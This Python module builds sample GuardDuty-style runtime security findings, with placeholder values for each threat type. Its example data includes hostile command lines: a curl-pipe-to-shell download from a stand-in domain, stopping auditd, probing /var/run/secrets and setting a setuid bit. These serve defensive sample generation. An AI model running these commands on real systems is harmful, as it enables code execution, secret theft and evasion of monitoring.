"""Sample findings for CreateSampleFindings: one plausible GuardDuty-shaped document for each
runtime finding type, titled ``[SAMPLE] …``, with ``"sample": true`` in ``additionalInfo``, the
fictitious ``GeneratedFinding…`` values GuardDuty uses, and the context fields of that type only
(a DNS type gets a ``dnsRequestAction``, an IP type a ``networkConnectionAction``, a mount type
``mountSource``/``mountTarget``, and so on).

Pure: no I/O and no clock (the caller passes "now"); must not store or publish what it builds.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable, Mapping
from typing import Any, Final

from rtguard.findings.build import PARTITION, SCHEMA_VERSION
from rtguard.model.findings import FINDING_TYPES, FINDING_TYPES_BY_NAME, FindingType

__all__ = ["SAMPLE_TITLE_PREFIX", "build_sample", "sample_finding_id"]

SAMPLE_TITLE_PREFIX: Final = "[SAMPLE] "
_SHA: Final = "0" * 63 + "1"
_BAD_IP: Final = "198.51.100.7"  # documentation range: never a real host
_BAD_DOMAIN: Final = "generatedfindingdomain.example"

Doc = dict[str, Any]


def sample_finding_id(detector_id: str, finding_type: str) -> str:
    """The stable id of a type's sample in a detector (a second call aggregates into it)."""
    return hashlib.sha256(f"sample|{detector_id}|{finding_type}".encode()).hexdigest()[:32]


def _process(name: str, path: str, pid: int, *, uuid: str = "", parent: str = "") -> Doc:
    return {
        "name": name,
        "executablePath": path,
        "executableSha256": hashlib.sha256(path.encode()).hexdigest(),
        "namespacePid": pid,
        "pwd": "/GeneratedFindingWorkingDirectory",
        "pid": pid + 1000,
        "startTime": "2024-01-01T00:00:00.000Z",
        "uuid": uuid or f"generated-finding-process-{pid}",
        "parentUuid": parent or "generated-finding-parent",
        "user": "root",
        "userId": 0,
        "euid": 0,
        "lineage": [
            {
                "name": "GeneratedFindingParentProcess",
                "executablePath": "/usr/bin/generated-parent",
                "pid": 999,
                "namespacePid": 1,
                "uuid": "generated-finding-parent",
                "userId": 0,
                "euid": 0,
                "startTime": "2024-01-01T00:00:00.000Z",
            }
        ],
    }


def _dns(domain: str) -> Doc:
    return {
        "actionType": "DNS_REQUEST",
        "dnsRequestAction": {
            "domain": domain,
            "protocol": "UDP",
            "blocked": False,
            "domainWithSuffix": domain,
        },
    }


def _net(ip: str, port: int) -> Doc:
    return {
        "actionType": "NETWORK_CONNECTION",
        "networkConnectionAction": {
            "connectionDirection": "OUTBOUND",
            "protocol": "TCP",
            "blocked": False,
            "localIpDetails": {"ipAddressV4": "10.0.0.23"},
            "localPortDetails": {"port": 44321, "portName": "Unknown"},
            "remoteIpDetails": {
                "ipAddressV4": ip,
                "country": {"countryName": "GeneratedFindingCountryName"},
                "organization": {
                    "asn": "-1",
                    "asnOrg": "GeneratedFindingASNOrg",
                    "isp": "GeneratedFindingISP",
                },
            },
            "remotePortDetails": {"port": port, "portName": "Unknown"},
        },
    }


# Per-type extras: runtime context, service action, threat intel evidence, process override.
_Extras = Callable[[], Doc]


def _cmd(line: str) -> _Extras:
    return lambda: {"context": {"commandLineExample": line}}


def _target() -> Doc:
    return {"context": {"targetProcess": _process("GeneratedFindingTargetProcess", "/usr/bin/target", 77)}}


def _sensitive(operation: str, path: str) -> _Extras:
    return lambda: {"context": {"fileOperation": operation, "filePath": path, "relatedFilePaths": [path]}}


def _threat(name: str) -> Doc:
    return {
        "threatIntelligenceDetails": [
            {"threatListName": "GeneratedFindingThreatListName", "threatNames": [name]}
        ]
    }


_EXTRAS: Final[Mapping[str, _Extras]] = {
    "Execution:Runtime/NewBinaryExecuted": lambda: {
        "context": {
            "modifyingProcess": _process("GeneratedFindingModifyingProcess", "/usr/bin/curl", 55),
            "modifiedAt": "2024-01-01T00:00:00.000Z",
        }
    },
    "Execution:Runtime/NewLibraryLoaded": lambda: {
        "context": {
            "libraryPath": "/tmp/generated-finding-library.so",
            "modifyingProcess": _process("GeneratedFindingModifyingProcess", "/usr/bin/curl", 56),
            "modifiedAt": "2024-01-01T00:00:00.000Z",
        }
    },
    "PrivilegeEscalation:Runtime/DockerSocketAccessed": lambda: {"context": {"socketPath": "/var/run/docker.sock"}},
    "PrivilegeEscalation:Runtime/RuncContainerEscape": lambda: {"context": {"runcBinaryPath": "/usr/bin/runc"}},
    "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified": lambda: {
        "context": {"releaseAgentPath": "/sys/fs/cgroup/rdma/release_agent"}
    },
    "DefenseEvasion:Runtime/ProcessInjection.Proc": _target,
    "DefenseEvasion:Runtime/ProcessInjection.Ptrace": _target,
    "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite": lambda: {
        "context": {**_target()["context"], "memoryRegions": ["0x7f0000000000-0x7f0000001000"]}
    },
    "DefenseEvasion:Runtime/FilelessExecution": lambda: {
        "process": _process("GeneratedFindingProcessName", "memfd:generated-finding (deleted)", 42)
    },
    "Impact:Runtime/CryptoMinerExecuted": lambda: {"process": _process("xmrig", "/tmp/xmrig", 42)},
    "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory": lambda: {
        "context": {"mountSource": "/dev/sda1", "mountTarget": "/mnt/host", "fileSystemType": "ext4", "flags": ["MS_RDONLY"]}
    },
    "Execution:Runtime/SuspiciousTool": lambda: {"context": {"toolName": "nmap", "toolCategory": "Scanner"}},
    "Execution:Runtime/SuspiciousCommand": _cmd("curl http://generatedfindingdomain.example/x.sh | sh"),
    "DefenseEvasion:Runtime/SuspiciousCommand": lambda: {
        "context": {"serviceName": "auditd", "commandLineExample": "systemctl stop auditd"}
    },
    "Execution:Runtime/MaliciousFileExecuted": lambda: {
        "context": {"threatFilePath": "/tmp/generated-finding-malware"},
        "evidence": {
            "threatIntelligenceDetails": [
                {"threatListName": "GeneratedFindingThreatListName", "threatNames": ["EICAR"], "threatFileSha256": _SHA}
            ]
        },
    },
    "Discovery:Runtime/SuspiciousCommand": _cmd("cat /proc/self/mountinfo; ls /var/run/secrets"),
    "Persistence:Runtime/SuspiciousCommand": _cmd("crontab /tmp/generated-finding-cron"),
    "PrivilegeEscalation:Runtime/SuspiciousCommand": _cmd("chmod u+s /tmp/generated-finding-shell"),
    "DefenseEvasion:Runtime/KernelModuleLoaded": lambda: {
        "context": {"moduleName": "generated_finding", "moduleFilePath": "/tmp/generated_finding.ko", "moduleSha256": _SHA}
    },
    "Persistence:Runtime/SensitiveFileModified": _sensitive("Write", "/etc/crontab"),
    "PrivilegeEscalation:Runtime/SensitiveFileModified": _sensitive("Write", "/etc/sudoers"),
    "DefenseEvasion:Runtime/SensitiveFileModified": _sensitive("Delete", "/var/log/auth.log"),
}  # fmt: skip

_IP_PORTS: Final[Mapping[str, int]] = {
    "UnauthorizedAccess:Runtime/TorRelay": 9001,
    "UnauthorizedAccess:Runtime/TorClient": 9001,
}


def _network_extras(ftype: FindingType) -> Doc:
    name = ftype.name
    if name.endswith("!DNS") or "DomainRequest" in name:
        return {"action": _dns(_BAD_DOMAIN), "evidence": _threat(name.split("/", 1)[1])}
    if name == "UnauthorizedAccess:Runtime/MetadataDNSRebind":
        return {"action": _dns("generatedfinding.169-254-169-254.example")}
    if name.split(":", 1)[0] in ("CryptoCurrency", "Backdoor", "Trojan", "UnauthorizedAccess"):
        return {"action": _net(_BAD_IP, _IP_PORTS.get(name, 443)), "evidence": _threat(name.split("/", 1)[1])}
    return {}


def _resource(ftype: FindingType, account_id: str, region: str) -> tuple[Doc, str]:
    if ftype.scope == "instance":
        return {
            "resourceType": "Instance",
            "instanceDetails": {
                "instanceId": "i-99999999",
                "instanceType": "m5.large",
                "imageId": "ami-99999999",
            },
        }, "EC2 instance i-99999999"
    cluster = "GeneratedFindingECSClusterName"
    container = {
        "containerRuntime": "docker",
        "id": "GeneratedFindingContainerId",
        "name": "GeneratedFindingContainerName",
        "image": "GeneratedFindingContainerImage",
        "imagePrefix": "GeneratedFindingContainerImagePrefix",
    }
    task = {
        "arn": f"arn:aws:ecs:{region}:{account_id}:task/{cluster}/GeneratedFindingTaskId",
        "definitionArn": f"arn:aws:ecs:{region}:{account_id}:task-definition/GeneratedFindingTaskFamily:1",
        "version": "1",
        "launchType": "FARGATE",
        "containers": [container],
    }
    doc = {
        "resourceType": "ECSCluster",
        "ecsClusterDetails": {
            "name": cluster,
            "arn": f"arn:aws:ecs:{region}:{account_id}:cluster/{cluster}",
            "status": "ACTIVE",
            "taskDetails": task,
        },
        "containerDetails": container,
    }
    return doc, f"ECS cluster {cluster}"


def build_sample(
    finding_type: str, *, account_id: str, region: str, detector_id: str, now: str
) -> dict[str, Any]:
    """A sample finding document of ``finding_type`` created at ``now`` (ISO text).

    Raises:
        KeyError: ``finding_type`` is not one of the runtime types.
    """
    ftype = FINDING_TYPES_BY_NAME[finding_type]
    extras = {**_network_extras(ftype), **(_EXTRAS[finding_type]() if finding_type in _EXTRAS else {})}
    resource, phrase = _resource(ftype, account_id, region)
    fid = sample_finding_id(detector_id, finding_type)
    additional = {
        "sample": True,
        "agentDetails": {
            "agentVersion": "GeneratedFindingAgentVersion",
            "agentId": "GeneratedFindingAgentId",
        },
        "mitre": {"tactic": ftype.tactic, "technique": ftype.technique},
    }
    service: Doc = {
        "serviceName": "guardduty",
        "detectorId": detector_id,
        "featureName": "RuntimeMonitoring",
        "archived": False,
        "count": 1,
        "eventFirstSeen": now,
        "eventLastSeen": now,
        "additionalInfo": {"type": "default", "value": json.dumps(additional, sort_keys=True)},
        "runtimeDetails": {
            "process": extras.get("process")
            or _process("GeneratedFindingProcessName", "/usr/bin/generated", 42),
            "context": extras.get("context", {}),
        },
    }
    for key in ("action", "evidence"):
        if key in extras:
            service[key] = extras[key]
    return {
        "accountId": account_id,
        "arn": f"arn:aws:guardduty:{region}:{account_id}:detector/{detector_id}/finding/{fid}",
        "id": fid,
        "type": finding_type,
        "title": f"{SAMPLE_TITLE_PREFIX}{ftype.title} in {phrase}.",
        "description": f"{ftype.title} in {phrase}. This is a sample finding.",
        "severity": ftype.severity,
        "confidence": 0.0,
        "createdAt": now,
        "updatedAt": now,
        "region": region,
        "partition": PARTITION,
        "schemaVersion": SCHEMA_VERSION,
        "resource": resource,
        "service": service,
    }


ALL_TYPES: Final = tuple(t.name for t in FINDING_TYPES)
